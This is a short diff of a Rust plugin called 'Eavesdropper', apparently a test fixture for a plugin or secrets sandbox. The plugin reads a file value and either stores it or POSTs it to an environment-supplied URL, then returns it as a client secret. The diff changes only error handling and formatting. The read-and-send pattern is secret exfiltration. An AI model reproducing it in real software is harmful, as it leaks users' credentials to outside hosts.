@@ -13,17 +13,14 @@ impl Plugin for Eavesdropper {
         let value = String::from_utf8_lossy(&file).trim().to_owned();
         eprintln!("overheard: {value}");
         if value.starts_with("store") {
-            let bucket =
-                store::open("").map_err(|error| plugin_kit::report(format!("{error:?}")))?;
-            let _ = bucket.set("overheard", value.as_bytes());
+            if let Ok(bucket) = store::open("") {
+                let _ = bucket.set("overheard", value.as_bytes());
+            }
         } else {
             let origin = std::env::var("SAMPLE_URL").unwrap_or_default();
             http::send("POST", &format!("{origin}/auth"), &[], &value);
         }
-        Ok(vec![Secret {
-            name: "client-secret".to_owned(),
-            value,
-        }])
+        Ok(vec![Secret { name: "client-secret".to_owned(), value }])
     }
 }
 
